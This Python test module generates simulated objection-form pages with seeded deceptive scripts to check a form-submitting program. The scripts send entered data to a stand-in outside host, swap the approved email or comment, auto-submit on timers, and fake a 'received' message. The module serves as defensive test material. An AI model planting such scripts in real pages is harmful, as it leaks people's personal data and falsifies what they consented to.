"""Pages that do as they like: honest forms, with one to three tricks from the ways, moments and places there are.

What must come of a page is not written here: `weighing.py` compares what the program says with what the site got.
"""

import json
from dataclasses import dataclass
from enum import StrEnum
from random import Random
from typing import Any

from tests.faults.canaries import EMAIL
from tests.faults.cases import KIT
from tests.faults.site import Answer, Site

_FRAMED, _GOOD = 0.2, 0.75
"""How many forms stand in a frame; how many sites take the objection, and how many persons approve it."""
SWAPPED_EMAIL, SWAPPED_COMMENT = "eve@example.org", "I agree to all of it, gladly."
"""What a page puts in place of what was approved."""
ABROAD = "https://www.elsewhere.example/log"
_SHELL = "<!doctype html><html lang=en><meta charset=utf-8><title>test</title><body>"
_RECEIVED = "<p role=status>Your objection was received</p>"
_WHY = "<label>Why <textarea name=why></textarea></label>"
_REFUSED = "<p role=alert>It could not be sent</p>"


class Ends(StrEnum):
    """How a page must end when the person says yes: well, as long as its tricks are what honest pages do too."""

    WELL = "well"
    ANY = "any"


@dataclass(frozen=True)
class Trick:
    """What a page does besides: by a script (`does`), by what the site answers, or by the attributes of its form.

    `kind` is what several of them are called together.
    """

    name: str
    does: str = ""
    ends: Ends = Ends.ANY
    answers: tuple[tuple[str, Answer], ...] = ()
    form: str = ""
    kind: str = ""


MOMENTS = {
    "as it opens": "(async () => {{ {does} }})();",
    "filling": "filled(async () => {{ {does} }});",
    "asked": "filled(async () => {{ await wait(150); {does} }});",
    "click": "form.querySelector('button').addEventListener('click', async () => {{ {does} }});",
    "after": "form.addEventListener('submit', async () => {{ await wait(150); {does} }});",
    "closing": "addEventListener('pagehide', async () => {{ {does} }});",
}
_LATER = ("after", "closing")
WAYS = (
    *("fetch", "keepalive", "gzip", "base64", "multipart", "xhr", "beacon", "get", "path", "header", "image"),
    *("events", "script", "style", "prefetch", "frame", "form", "ping", "worker", "shared", "socket"),
)
_POSTING = ("fetch", "keepalive", "gzip", "base64", "multipart", "xhr", "beacon", "form", "worker")


def leaks(moment: str, way: str, what: str, to: str) -> Trick:
    """Give the trick that something leaves at a moment, in a way, to a place."""
    text = {"everything": "json()", "the address": "all().email", "nothing": "JSON.stringify({event: 'seen'})"}[what]
    does = MOMENTS[moment].format(does=f"leave.{way}({json.dumps(to)}, {text});")
    # A page that goes to the address of the send by itself could be the send, whatever it carries.
    harmless = (what == "nothing" and (way, to) != ("form", "/send")) or to in ("/draft", ABROAD) or moment in _LATER
    kind = f"{moment}: {what} to {_PLACES[to]}"
    return Trick(f"{kind} by {way}", does, Ends.WELL if harmless else Ends.ANY, kind=kind)


_PLACES = {"/draft": "a draft", "/send": "the send", "/v2/send": "another send", ABROAD: "abroad"}
_PASSES_ON = Answer(307, headers={"location": "/send"})
_AT_ONCE = "says it at once"
OTHERS = (
    Trick("bound twice", "submits(async () => showing(await send({n: 1})));", Ends.WELL),
    Trick(
        "bound twice, in two wrappings",
        "submits(async () => showing(await post('/send', JSON.stringify({variables: all()}))));",
    ),
    Trick(
        "tries again", "form.addEventListener('submit', async () => { await wait(200); send({retry: 1}); });", Ends.WELL
    ),
    Trick("submits by a timer", MOMENTS["asked"].format(does="form.requestSubmit();")),
    Trick("presses by a timer", MOMENTS["asked"].format(does="form.querySelector('button').click();")),
    Trick("swaps the comment", f"swaps = {{why: {json.dumps(SWAPPED_COMMENT)}}};"),
    Trick("swaps the address", f"swaps = {{email: {json.dumps(SWAPPED_EMAIL)}}};"),
    Trick("goes abroad", form="method=post action=https://www.elsewhere.example/send"),
    Trick(_AT_ONCE, "form.addEventListener('submit', () => setTimeout(received, 20));"),
    Trick(
        "says it and sends nothing",
        "form.addEventListener('submit', () => { silent = true; setTimeout(received, 20); });",
    ),
    Trick(
        "keeps a draft that is sent on",
        MOMENTS["filling"].format(does="post('/draft', coded());"),
        answers=(("POST /draft", _PASSES_ON),),
    ),
    Trick(
        "keeps a draft that is sent abroad",
        MOMENTS["filling"].format(does="post('/draft', coded());"),
        answers=(("POST /draft", Answer(307, headers={"location": ABROAD})),),
    ),
    Trick("is sent on to itself", answers=(("POST /send", Answer(307, headers={"location": "/send"})),)),
    Trick("is sent on abroad", answers=(("POST /send", Answer(307, headers={"location": ABROAD})),)),
    Trick(
        "is sent on within the site",
        ends=Ends.WELL,
        answers=(("POST /send", Answer(307, headers={"location": "/next"})),),
    ),
)
SENDS = {
    "browser": "",
    "fetch": "post('/send', coded(more))",
    "multipart": "post('/send', parts(more))",
    "json": "post('/send', json(more))",
    "escaped": "post('/send', escaped(json(more)))",
    "graphql": "post('/send', JSON.stringify({query: 'mutation', variables: {input: all(more)}}))",
    "field": "post('/send', new URLSearchParams({payload: json(more)}))",
    "gzip": "zipped(json(more)).then((body) => post('/send', body))",
    "base64": "post('/send', JSON.stringify({v: 1, d: base64(json(more))}))",
}
_MORE = {
    "phone": "<label>Phone <input name=phone></label>",
    "news": "<label><input type=checkbox name=news> News</label>",
    "trap": "<div style='display:none'><label>Website <input name=website></label></div>",
    "contact": "<input type=hidden name=notify value=privacy@objections.example.eu>",
}
ANSWERS = {
    "received": Answer(200, f"{_SHELL}{_RECEIVED}"),
    "sent on to the words": Answer(303, headers={"location": "/done"}),
    "refused": Answer(422, f"{_SHELL}{_REFUSED}<form><input name=email></form>"),
    "error": Answer(500, f"{_SHELL}{_RECEIVED}"),
    "nothing": Answer(200, f"{_SHELL}<p>Thank you"),
}


@dataclass(frozen=True)
class Tricky:
    """A page: how its form sends and is built, what the site answers, what the person says, and its tricks."""

    sends: str
    more: tuple[str, ...]
    framed: bool
    answer: str
    says: str
    tricks: tuple[Trick, ...]

    @property
    def succeeds(self) -> bool:
        """Whether the site takes the objection and the page then says so, or has said so by itself."""
        at_once = any(trick.name == _AT_ONCE for trick in self.tricks)
        return self.answer in _SUCCEEDS or (at_once and self.answer == "nothing")

    @property
    def must_end_well(self) -> bool:
        """Whether it is a page as honest ones are, to which the person says yes."""
        return self.succeeds and self.says == "yes" and all(trick.ends is Ends.WELL for trick in self.tricks)

    def site(self) -> Site:
        """Give the site that stands for it."""
        form, cookie = f"{_SHELL}{self._form()}", {"set-cookie": "session=1; path=/; secure"}
        outer = f"{_SHELL}<h1>Object</h1><iframe src=/inner width=800 height=600></iframe>"
        answers = {
            "GET /": [Answer(page=f"{_SHELL}<p>home", headers=cookie)],
            "GET /form": [Answer(page=outer if self.framed else form)],
            "GET /inner": [Answer(page=form)],
            "GET /done": [Answer(page=f"{_SHELL}{_RECEIVED}")],
            "POST /send": [ANSWERS[self.answer]],
            "POST /next": [ANSWERS[self.answer]],
        }
        return Site({**answers, **{place: [answer] for trick in self.tricks for place, answer in trick.answers}})

    def _form(self) -> str:
        attributes = next((trick.form for trick in self.tricks if trick.form), "method=post action=/send")
        more = "".join(_MORE[name] for name in self.more)
        fields = f"<label>Email address <input name=email value='{EMAIL}'></label>{_WHY}"
        title = "" if self.framed else "<h1>Object</h1>"
        script = f"{KIT}{_SCRIPT.replace('SEND', SENDS[self.sends] or 'post(form.action, coded(more))')}"
        does = "".join(f"{trick.does}\n" for trick in self.tricks)
        own = _BY_BROWSER if self.sends == "browser" else _BY_SCRIPT
        form = f"<form {attributes}>{fields}{more}<button>Submit</button></form>"
        return f"{title}{form}<script>{script}{does}{own}</script>"


_SCRIPT = """
let swaps = {}, silent = false;
const parts = (more) => {
  const made = new FormData(form);
  for (const name in more) made.set(name, more[name]);
  return made;
};
const send = (extra) => { const more = { ...swaps, ...extra }; return SEND; };
const showing = async (answer) => {
  if (!answer) return;
  const part = document.createElement('div');
  part.innerHTML = new DOMParser().parseFromString(await answer.text(), 'text/html').body.innerHTML;
  if (answer.ok && part.textContent.includes('received')) form.remove();
  document.body.append(part);
};
"""
_BY_BROWSER = """
form.addEventListener('formdata', (event) => { for (const name in swaps) event.formData.set(name, swaps[name]); });
form.addEventListener('submit', (event) => { if (silent) event.preventDefault(); });
"""
_BY_SCRIPT = "submits(async () => { if (!silent) showing(await send({})); });"

_TOO_SOON = {"submits by a timer", "presses by a timer"}
_SENT_AGAIN = "after: everything to"
_ANYWHERE = ("/draft", ABROAD)
_SUCCEEDS = ("received", "sent on to the words")


def drawn(number: int) -> Tricky:
    """Give the page that has a number: the same one for ever, or until what pages can do is changed."""
    by = Random(number)  # noqa: S311  it decides nothing but what is tried
    tricks = {trick.name: trick for trick in (_trick(by) for _ in range(by.choice((0, 1, 1, 2, 2, 3))))}
    if tricks.keys() & _TOO_SOON:  # what comes after the send then comes before the person was asked, as a draft may
        tricks = {name: trick for name, trick in tricks.items() if not name.startswith(_SENT_AGAIN)}
    return Tricky(
        sends=by.choice(sorted(SENDS)),
        more=tuple(by.sample(sorted(_MORE), by.randrange(4))),
        framed=by.random() < _FRAMED,
        answer=by.choice(_SUCCEEDS if by.random() < _GOOD else sorted(ANSWERS)),
        says="yes" if by.random() < _GOOD else "no",
        tricks=tuple(tricks.values()),
    )


def _trick(by: Random) -> Trick:
    """Draw one of a kind: something is told, kept, sent too soon, or sent again; or one of the others."""
    kind = by.randrange(6)
    way = by.choice(WAYS)
    if kind == 0:
        return leaks(by.choice(sorted(MOMENTS)), way, "nothing", by.choice(("/send", *_ANYWHERE)))
    if kind == 1:
        moment = by.choice([moment for moment in MOMENTS if moment != "as it opens"])
        return leaks(moment, way, by.choice(("everything", "the address")), by.choice(_ANYWHERE))
    if kind == 2:
        # An address that the flow does not know is no other than a draft's: only that of the send can be told.
        return leaks(by.choice(("filling", "asked")), by.choice(_POSTING), "everything", "/send")
    if kind == 3:
        return leaks(by.choice(_LATER), way, "everything", by.choice(("/send", "/v2/send")))
    return by.choice(OTHERS)


def named(page: Tricky) -> dict[str, Any]:
    """Give a page in words, for whoever looks at one."""
    return {
        "sends": page.sends,
        "more": list(page.more),
        "framed": page.framed,
        "answer": page.answer,
        "says": page.says,
        "tricks": [trick.name for trick in page.tricks],
    }
